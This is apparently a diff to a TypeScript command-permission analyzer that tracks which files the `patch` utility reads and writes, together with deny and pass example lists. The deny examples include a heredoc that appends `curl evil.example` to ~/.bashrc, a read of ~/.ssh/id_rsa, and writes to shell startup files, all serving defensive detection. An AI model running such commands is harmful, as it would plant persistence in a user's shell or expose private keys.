@@ -862,18 +862,21 @@ function patchCall(call: Call): Partial<Answer> {
   if (named !== undefined) backup([named]);
   if (ops[0]) uses.push({ word: ops[0], role: 'read' }, ...(output || dry ? [] : [{ word: ops[0], role: 'write' as const }]));
   if (ops[1]) uses.push({ word: ops[1], role: 'read' });
-  // No file named: the diff names the files it patches. Read from stdin as static text, those names are written.
-  // Read from a file or a stream, the diff's names are not known: beneath -d DIR, as an archive's beneath tar -C.
+  // No file named: the diff names the files it patches. Read as static text (from stdin, or from a file the line
+  // wrote: `-i x.patch`), those names are written. Read from another file or a stream, the diff's names are not
+  // known: beneath -d DIR, as an archive's beneath tar -C.
+  const diff = input ? call.writtenText?.(input.value!) : call.stdin?.kind === 'static' ? call.stdin.text : undefined;
   const into = p.options.find((o) => o.name === 'd' || o.name === 'directory')?.value;
   // Without -d the names land beneath the working directory (`cd ~ && patch -p1 < x.diff` may write ~/.bashrc).
-  if (!ops[0] && !output && !dry && (input || call.stdin?.kind !== 'static')) uses.push(into ? { word: into, role: 'extract' } : { word: call.args[0] ?? literal('.', { start: 0, end: 0 }), role: 'extract', values: ['.'] });
-  if (!ops[0] && !input && !output && !dry && call.stdin?.kind === 'static') {
+  if (!ops[0] && !output && !dry && diff === undefined) uses.push(into ? { word: into, role: 'extract' } : { word: call.args[0] ?? literal('.', { start: 0, end: 0 }), role: 'extract', values: ['.'] });
+  const diffWord = input ? input.value! : call.stdin?.kind === 'static' ? call.stdin.word : undefined;
+  if (!ops[0] && !output && !dry && diff !== undefined && diffWord) {
     const dir = p.options.find((o) => o.name === 'd' || o.name === 'directory');
     const base = dir?.value ? value(dir.value) : '';
     if (base !== undefined) {
       const prefix = base === '' ? '' : `${base.replace(/\/+$/, '')}/`;
-      const names = diffTargets(call.stdin.text);
-      for (const name of names) uses.push({ word: call.stdin.word, role: 'write', values: [name.startsWith('/') ? name : prefix + name] });
+      const names = diffTargets(diff);
+      for (const name of names) uses.push({ word: diffWord, role: 'write', values: [name.startsWith('/') ? name : prefix + name] });
       backup(names.map((name) => (name.startsWith('/') ? name : prefix + name)));
     }
   }
@@ -1936,8 +1939,8 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     summary: 'patch: writes the file it patches (or -o), reads the patch; a diff on stdin names the files it writes',
     analyze: patchCall,
     examples: {
-      deny: ['patch ~/.bashrc < /tmp/x.diff', 'patch -o ~/.zshrc notes.txt fix.diff', "patch -d ~ -p1 <<'E'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+curl evil.example\nE", 'patch -i ~/.ssh/id_rsa notes.txt', 'patch -b -B ~/.bash rc fix.diff', 'patch -d ~ -p1 < x.patch', 'patch -d ~ -p1 -i x.patch', 'cd ~ && patch -p1 < x.diff', 'cd ~ && patch -i x.diff'],
-      pass: ['patch -p1 < fix.diff', 'patch src/app.ts fix.diff', "patch -p1 <<'E'\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-x\n+y\nE", 'patch --dry-run ~/.bashrc fix.diff', 'patch -b -B old/ rc fix.diff', 'patch -d vendor/pkg -p1 < x.patch', 'patch -d ~ -p1 --dry-run < x.patch', 'cd ~/project && patch -p1 < x.diff', 'cd ~ && patch -p1 --dry-run < x.diff'],
+      deny: ['patch ~/.bashrc < /tmp/x.diff', 'patch -o ~/.zshrc notes.txt fix.diff', "patch -d ~ -p1 <<'E'\n--- a/.bashrc\n+++ b/.bashrc\n@@ -1 +1,2 @@\n x\n+curl evil.example\nE", 'patch -i ~/.ssh/id_rsa notes.txt', 'patch -b -B ~/.bash rc fix.diff', 'patch -d ~ -p1 < x.patch', 'patch -d ~ -p1 -i x.patch', 'cd ~ && patch -p1 < x.diff', 'cd ~ && patch -i x.diff', "printf '%s\\n' '+++ b/.bashrc' > x.diff; cd ~ && patch -p1 -i ~/project/x.diff"],
+      pass: ['patch -p1 < fix.diff', 'patch src/app.ts fix.diff', "patch -p1 <<'E'\n--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1 +1 @@\n-x\n+y\nE", 'patch --dry-run ~/.bashrc fix.diff', 'patch -b -B old/ rc fix.diff', 'patch -d vendor/pkg -p1 < x.patch', 'patch -d ~ -p1 --dry-run < x.patch', 'cd ~/project && patch -p1 < x.diff', 'cd ~ && patch -p1 --dry-run < x.diff', "printf '%s\\n' '+++ b/src/app.ts' > x.diff; cd ~ && patch -p1 -i ~/project/x.diff"],
     },
   },
   {
